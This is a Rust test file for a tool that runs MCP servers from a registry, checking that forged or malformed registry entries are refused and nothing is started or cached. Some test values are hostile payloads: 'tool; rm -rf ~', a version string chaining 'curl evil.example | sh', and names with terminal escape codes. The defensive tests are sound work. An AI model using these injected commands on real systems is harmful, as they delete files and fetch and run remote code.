//! Registries that lie about a version.

use serde_json::Value;
use serde_json::json;

use crate::api::Api;
use crate::api::NAME;
use crate::api::OF_REGISTRY;
use crate::api::REFERENCE;
use crate::api::run;
use crate::api::start;
use crate::bed::TestBed;
use crate::server::Reply;
use crate::server::Script;
use crate::server::Server;
use smcp_model::digest::Digest;

/// Checks that nothing was started, and that everything in the cache has its digest.
#[track_caller]
pub(crate) fn nothing_came_of_it(bed: &TestBed, what: &str) {
    assert!(!bed.has("started"), "{what}: it was started");
    for blob in bed.list(".mcp/cache/blobs") {
        let bytes = std::fs::read(bed.path(&format!(".mcp/cache/blobs/{blob}"))).unwrap();
        assert_eq!(blob, Digest::of(&bytes).to_string().replace(':', "-"), "{what}: something false is in the cache");
    }
}

/// Runs the good version from a registry whose answer about it is changed.
#[track_caller]
pub(crate) fn refused(what: &str, change: impl FnOnce(&str, &mut Value), exit: i32, says: &[&str]) {
    let server = start(|base| {
        let mut api = Api::good(base);
        let mut entry = api.entries.remove(0);
        change(base, &mut entry);
        // What is asked for is still found under its own name and version.
        let path = "/v0.1/servers/io.github.acme%2Ftool/versions/1.0.0";
        api.files.insert(path.to_owned(), entry.to_string().into_bytes());
        api
    });
    let bed = TestBed::new();
    let ran = run(&bed, &server, &format!("run {REFERENCE}"));
    assert_eq!(ran.code, exit, "{what}: {ran}");
    for word in says {
        assert!(ran.stderr.contains(word), "{what}: `{word}` is not in: {ran}");
    }
    nothing_came_of_it(&bed, what);
}

#[test]
fn an_answer_about_something_else_is_refused() {
    for (what, pointer, value, exit, says) in [
        ("another name", "/server/name", json!("io.github.acme/other"), 3, "the server in the registry's answer"),
        ("capital letters", "/server/name", json!("io.github.Acme/tool"), 3, "the server in the registry's answer"),
        ("another version", "/server/version", json!("1.0.1"), 3, "the version in the registry's answer"),
        ("no version", "/server/version", json!("1 0"), 3, "which is no version"),
        ("`latest`", "/server/version", json!("latest"), 3, "which is no version"),
        (
            "a name that steers",
            "/server/name",
            json!("io.github.acme/t\u{1b}[2Jool\u{202e}"),
            3,
            "\\u{1b}[2Jool\\u{202e}",
        ),
        (
            "a name that is none",
            "/server/name",
            json!(["io.github.acme/tool"]),
            3,
            "`server.name` is missing, or no text",
        ),
        ("no server", "/server", json!(null), 3, "`server` is missing, or no object"),
        ("packages that are none", "/server/packages", json!({}), 3, "`server.packages` is no list"),
        ("words that are none", "/_meta", json!("active"), 3, "`_meta` is no object"),
    ] {
        refused(what, |_, entry| *entry.pointer_mut(pointer).unwrap() = value, exit, &[says]);
    }
}

#[test]
fn a_status_that_is_not_known_never_runs() {
    for (status, says) in [
        (json!("deleted"), "`deleted`"),
        (json!("Active"), "`unknown: Active`"),
        (json!("published"), "`unknown: published`"),
        (json!("revoked"), "`unknown: revoked`"),
        (json!(1), "`unknown: 1`"),
        (json!("active\u{1b}[8m"), "`unknown: active\\u{1b}[8m`"),
    ] {
        let what = status.to_string();
        refused(&what, |_, entry| entry["_meta"][OF_REGISTRY]["status"] = status, 4, &[says]);
    }
}

#[test]
fn what_has_no_digest_of_its_own_is_refused() {
    let package = "/server/packages/0";
    for (what, change, exit, says) in [
        ("no digest", json!({"fileSha256": null}), 2, "has no `fileSha256`"),
        ("a short digest", json!({"fileSha256": "abc"}), 3, "`fileSha256` of a package"),
        ("a digest in capitals", json!({"fileSha256": "A".repeat(64)}), 3, "`fileSha256` of a package"),
        ("a digest of another kind", json!({"fileSha256": format!("sha512:{}", "a".repeat(64))}), 3, "`fileSha256`"),
        ("a digest that is a number", json!({"fileSha256": 1}), 3, "`fileSha256` of a package is no text"),
        ("another transport", json!({"transport": {"type": "sse", "url": "https://x"}}), 2, "speaks sse"),
        ("another kind", json!({"registryType": "nuget"}), 2, "it is a package of nuget"),
        ("an image", json!({"registryType": "oci"}), 2, "it is a container image"),
        ("no kind", json!({"registryType": null}), 3, "`registryType` of a package is missing"),
    ] {
        refused(what, |_, entry| merge(entry.pointer_mut(package).unwrap(), &change), exit, &[says]);
    }
    refused("nothing", |_, entry| entry["server"]["packages"] = json!([]), 2, &["it has no package"]);
    let remote = json!([{"type": "streamable-http", "url": "https://mcp.example.com/mcp"}]);
    let only_remote = |_: &str, entry: &mut Value| {
        entry["server"]["packages"] = json!(null);
        entry["server"]["remotes"] = remote;
    };
    refused("a remote server", only_remote, 2, &["it runs elsewhere"]);
}

fn merge(value: &mut Value, change: &Value) {
    for (key, new) in change.as_object().unwrap() {
        value[key] = new.clone();
    }
}

#[test]
fn packages_of_npm_and_pypi_are_imported() {
    let npm = |identifier: &str, version: Value| json!([{"registryType": "npm", "identifier": identifier, "version": version, "transport": {"type": "stdio"}}]);
    let pypi = json!([{"registryType": "pypi", "registryBaseUrl": "https://pypi.org/", "identifier": "mcp-tool",
        "version": "1.0.0", "transport": {"type": "stdio"}}]);
    let elsewhere = json!([{"registryType": "npm", "registryBaseUrl": "https://npm.evil.example", "identifier": "tool",
        "version": "1.0.0", "transport": {"type": "stdio"}}]);
    let two = json!([npm("@acme/tool", json!("1.0.0"))[0], pypi[0]]);
    for (packages, says) in [
        (npm("@acme/tool", json!("1.0.0")), vec!["`smcp import npm:@acme/tool@1.0.0` makes a package of it"]),
        (npm("tool", json!(null)), vec!["`smcp import npm:tool` makes a package of it"]),
        (pypi, vec!["`smcp import pypi:mcp-tool==1.0.0` makes a package of it"]),
        (two, vec!["smcp import npm:@acme/tool@1.0.0", "smcp import pypi:mcp-tool==1.0.0"]),
        (elsewhere, vec!["from https://npm.evil.example"]),
        (npm("tool; rm -rf ~", json!("1.0.0")), vec!["with a name that none has"]),
        (npm("tool", json!("1.0.0` && curl evil.example | sh")), vec!["with a name that none has"]),
        (npm("--help", json!("1.0.0")), vec!["with a name that none has"]),
    ] {
        let what = packages.to_string();
        refused(&what, |_, entry| entry["server"]["packages"] = packages, 2, &says);
    }
}

#[test]
fn what_is_not_offered_any_more_is_forgotten() {
    for (what, change, exit) in [
        ("deleted", json!({"status": "deleted"}), 4),
        ("another kind of package", json!({"packages": [{"registryType": "npm", "identifier": "tool"}]}), 2),
        ("gone", json!({"gone": true}), 2),
    ] {
        let bed = TestBed::new();
        let path = "/v0.1/servers/io.github.acme%2Ftool/versions/1.0.0";
        let server = Server::start_with(|address| {
            let api = Api::good(&format!("http://{address}"));
            let good = Reply::ok(api.entries[0].to_string());
            let mut changed = api.entries[0].clone();
            if let Some(status) = change.get("status") {
                changed["_meta"][OF_REGISTRY]["status"] = status.clone();
            }
            if let Some(packages) = change.get("packages") {
                changed["server"]["packages"] = packages.clone();
            }
            let changed =
                if change.get("gone").is_some() { Reply::error(404, "gone") } else { Reply::ok(changed.to_string()) };
            let mut script = api.script();
            script.set_each(path, vec![good, changed, Reply::error(503, "down")]);
            script
        });
        run(&bed, &server, &format!("run {REFERENCE}")).succeeds();
        std::fs::remove_file(bed.path("started")).unwrap();
        run(&bed, &server, &format!("run {REFERENCE}")).exits(exit);
        // The registry is down, and what the cache knew must not take its place.
        let ran = run(&bed, &server, &format!("run {REFERENCE}"));
        assert!([2, 4].contains(&ran.code), "{what}: {ran}");
        assert!(!bed.has("started"), "{what}");
    }
}

#[test]
fn the_hubs_answers_are_none_of_this_api() {
    let page = Reply::with(200, &[("content-type", "text/html")], "<html>");
    for (what, reply, exit, says) in [
        ("a document of the hub", Reply::ok(json!({"package": NAME}).to_string()), 3, "`server` is missing"),
        ("a page", page, 2, "answered with a web page"),
        ("nothing", Reply::ok(""), 3, "it is empty"),
        ("a key twice", Reply::ok("{\"server\":{},\"server\":{}}"), 3, "stands twice"),
        ("locked", Reply::error(401, "who are you"), 2, "log in"),
    ] {
        let mut script = Script::default();
        script.set("/v0.1/servers/", reply);
        let (bed, server) = (TestBed::new(), Server::start(script));
        run(&bed, &server, &format!("run {REFERENCE}")).exits(exit).says(&[says]);
        nothing_came_of_it(&bed, what);
    }
}
